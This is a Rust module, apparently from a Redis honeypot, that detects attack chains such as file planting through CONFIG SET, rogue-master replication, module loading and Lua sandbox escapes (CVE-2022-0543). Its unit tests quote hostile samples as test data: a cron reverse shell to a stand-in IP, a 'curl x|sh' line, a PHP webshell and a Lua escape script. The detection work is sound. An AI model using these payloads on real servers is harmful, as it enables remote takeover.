//! Recognising the known Redis attack chains within one session.
//!
//! - `redis.config_write`: CONFIG SET dir/dbfilename, SET of the payload,
//!   then SAVE/BGSAVE: the RDB file lands where the attacker chose (a cron
//!   spool, `~/.ssh/authorized_keys`, a web root). Evidence: the directory,
//!   file name, full path and the values that would have been written,
//!   classified as `cron`, `ssh_key`, `webshell` or `other`.
//! - `redis.rogue_master`: SLAVEOF/REPLICAOF host port, the first step of
//!   the rogue-master module attack. The honeypot never connects out.
//! - `redis.module_load`: MODULE LOAD of a shared object.
//! - `redis.lua_eval`: EVAL/EVALSHA/SCRIPT LOAD, flagged when the script
//!   reaches for the Lua sandbox escapes of CVE-2022-0543.
//! - `redis.flushall`: FLUSHALL/FLUSHDB, typical of ransom and wiper runs.

use serde_json::{Map, Value, json};

/// Values recorded as evidence per chain, and `payload` events emitted.
pub const MAX_EVIDENCE_VALUES: usize = 16;
/// Bytes of one value kept inline in evidence.
pub const EVIDENCE_VALUE_CAP: usize = 4096;

/// What a session has done so far that matters for the chains.
#[derive(Debug, Default)]
pub struct Tracker {
    /// `dir` set by this session.
    pub dir: Option<Vec<u8>>,
    /// `dbfilename` set by this session.
    pub dbfilename: Option<Vec<u8>>,
    /// (key, value) pairs written by this session, capped.
    pub written: Vec<(Vec<u8>, Vec<u8>)>,
}

impl Tracker {
    /// Remember a SET (only the first few; later ones are rarely new).
    pub fn record_write(&mut self, key: &[u8], value: &[u8]) {
        if let Some(slot) = self.written.iter_mut().find(|(k, _)| k == key) {
            slot.1 = value.to_vec();
        } else if self.written.len() < MAX_EVIDENCE_VALUES {
            self.written.push((key.to_vec(), value.to_vec()));
        }
    }

    /// True once the session has redirected where the RDB goes.
    pub fn redirected(&self) -> bool {
        self.dir.is_some() || self.dbfilename.is_some()
    }
}

/// What kind of file an attacker is trying to plant.
pub fn classify(dir: &[u8], file: &[u8], value: &[u8]) -> &'static str {
    let text = String::from_utf8_lossy(value).to_ascii_lowercase();
    let path = format!(
        "{}/{}",
        String::from_utf8_lossy(dir),
        String::from_utf8_lossy(file)
    )
    .to_ascii_lowercase();
    if text.contains("ssh-rsa ")
        || text.contains("ssh-ed25519 ")
        || text.contains("ecdsa-sha2-")
        || text.contains("ssh-dss ")
        || path.contains("authorized_keys")
    {
        "ssh_key"
    } else if text.contains("<?php")
        || text.contains("<?=")
        || text.contains("<%")
        || text.contains("<jsp:")
        || path.ends_with(".php")
        || path.ends_with(".jsp")
        || path.ends_with(".asp")
        || path.ends_with(".aspx")
    {
        "webshell"
    } else if path.contains("cron") || looks_like_cron(&text) {
        "cron"
    } else {
        "other"
    }
}

/// A line starting with five cron time fields (`*/1 * * * * cmd`).
fn looks_like_cron(text: &str) -> bool {
    text.lines().any(|line| {
        let fields: Vec<&str> = line.split_whitespace().take(6).collect();
        fields.len() == 6
            && fields[..5].iter().all(|f| {
                !f.is_empty()
                    && f.chars()
                        .all(|c| c.is_ascii_digit() || matches!(c, '*' | '/' | ',' | '-'))
            })
    })
}

/// Evidence for `redis.config_write`: returns the map and the overall
/// classification (the most specific of the values').
pub fn config_write_evidence(
    dir: &[u8],
    file: &[u8],
    values: &[(Vec<u8>, Vec<u8>)],
    command: &str,
) -> (Map<String, Value>, &'static str) {
    let mut classes = Vec::new();
    let vals: Vec<Value> = values
        .iter()
        .map(|(k, v)| {
            let class = classify(dir, file, v);
            classes.push(class);
            let (text, cut) = mirage_core::BytesText::capped(v, EVIDENCE_VALUE_CAP);
            json!({
                "key": mirage_core::escape_bytes(&k[..k.len().min(256)]),
                "value": text.0,
                "len": v.len(),
                "truncated": cut,
                "class": class,
            })
        })
        .collect();
    let overall = ["ssh_key", "webshell", "cron"]
        .into_iter()
        .find(|c| classes.contains(c))
        .unwrap_or_else(|| classify(dir, file, b""));
    let mut path = dir.to_vec();
    if !path.ends_with(b"/") {
        path.push(b'/');
    }
    path.extend_from_slice(file);
    let mut m = Map::new();
    m.insert("dir".into(), json!(mirage_core::escape_bytes(dir)));
    m.insert("dbfilename".into(), json!(mirage_core::escape_bytes(file)));
    m.insert("path".into(), json!(mirage_core::escape_bytes(&path)));
    m.insert("trigger".into(), json!(command));
    m.insert("class".into(), json!(overall));
    m.insert("values".into(), Value::Array(vals));
    (m, overall)
}

/// Lua sandbox escapes seen in the wild (CVE-2022-0543 and friends).
const LUA_ESCAPES: &[&str] = &[
    "package.loadlib",
    "package.cpath",
    "io.popen",
    "os.execute",
    "io.open",
    "loadstring",
    "luaopen_io",
    "luaopen_os",
    "require",
    "dofile",
    "loadfile",
];

/// The escape patterns a script contains.
pub fn lua_escapes(script: &[u8]) -> Vec<&'static str> {
    let s = String::from_utf8_lossy(script);
    LUA_ESCAPES
        .iter()
        .copied()
        .filter(|p| s.contains(p))
        .collect()
}

/// SHA-1 of `data` as lower-case hex: what SCRIPT LOAD returns and EVALSHA
/// names a script by. Written here because nothing else needs SHA-1.
pub fn sha1_hex(data: &[u8]) -> String {
    let mut h: [u32; 5] = [0x67452301, 0xEFCDAB89, 0x98BADCFE, 0x10325476, 0xC3D2E1F0];
    let mut msg = data.to_vec();
    let bits = (data.len() as u64).wrapping_mul(8);
    msg.push(0x80);
    while msg.len() % 64 != 56 {
        msg.push(0);
    }
    msg.extend_from_slice(&bits.to_be_bytes());
    for block in msg.chunks_exact(64) {
        let mut w = [0u32; 80];
        for (i, word) in block.chunks_exact(4).enumerate() {
            w[i] = u32::from_be_bytes([word[0], word[1], word[2], word[3]]);
        }
        for i in 16..80 {
            w[i] = (w[i - 3] ^ w[i - 8] ^ w[i - 14] ^ w[i - 16]).rotate_left(1);
        }
        let [mut a, mut b, mut c, mut d, mut e] = h;
        for (i, wi) in w.iter().enumerate() {
            let (f, k) = match i {
                0..=19 => ((b & c) | (!b & d), 0x5A827999),
                20..=39 => (b ^ c ^ d, 0x6ED9EBA1),
                40..=59 => ((b & c) | (b & d) | (c & d), 0x8F1BBCDC),
                _ => (b ^ c ^ d, 0xCA62C1D6),
            };
            let t = a
                .rotate_left(5)
                .wrapping_add(f)
                .wrapping_add(e)
                .wrapping_add(k)
                .wrapping_add(*wi);
            e = d;
            d = c;
            c = b.rotate_left(30);
            b = a;
            a = t;
        }
        for (x, y) in h.iter_mut().zip([a, b, c, d, e]) {
            *x = x.wrapping_add(y);
        }
    }
    h.iter().map(|x| format!("{x:08x}")).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn classifies_the_classic_payloads() {
        assert_eq!(
            classify(
                b"/var/spool/cron",
                b"root",
                b"\n\n*/1 * * * * bash -i >& /dev/tcp/1.2.3.4/4444 0>&1\n\n"
            ),
            "cron"
        );
        assert_eq!(
            classify(b"/etc", b"crontab", b"\n* * * * * root curl x|sh\n"),
            "cron"
        );
        assert_eq!(
            classify(
                b"/root/.ssh",
                b"authorized_keys",
                b"\n\nssh-rsa AAAAB3Nza attacker@box\n\n"
            ),
            "ssh_key"
        );
        assert_eq!(
            classify(b"/var/www/html", b"x.php", b"<?php system($_GET['c']); ?>"),
            "webshell"
        );
        assert_eq!(classify(b"/tmp", b"dump.rdb", b"hello"), "other");
    }

    #[test]
    fn evidence_names_path_and_class() {
        let (m, class) = config_write_evidence(
            b"/root/.ssh/",
            b"authorized_keys",
            &[(b"x".to_vec(), b"ssh-ed25519 AAAA k".to_vec())],
            "save",
        );
        assert_eq!(class, "ssh_key");
        assert_eq!(m["path"], "/root/.ssh/authorized_keys");
        assert_eq!(m["values"][0]["class"], "ssh_key");
    }

    #[test]
    fn lua_escape_patterns() {
        let s = br#"local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("id", "r")"#;
        let found = lua_escapes(s);
        assert!(found.contains(&"package.loadlib"));
        assert!(found.contains(&"io.popen"));
        assert!(lua_escapes(b"return redis.call('get', KEYS[1])").is_empty());
    }

    #[test]
    fn sha1_known_answers() {
        assert_eq!(sha1_hex(b""), "da39a3ee5e6b4b0d3255bfef95601890afd80709");
        assert_eq!(sha1_hex(b"abc"), "a9993e364706816aba3e25717850c26c9cd0d89d");
        assert_eq!(
            sha1_hex(b"return 1"),
            "e0e1f9fabfc9d4800c877a703b823ac0578ff8db"
        );
    }
}
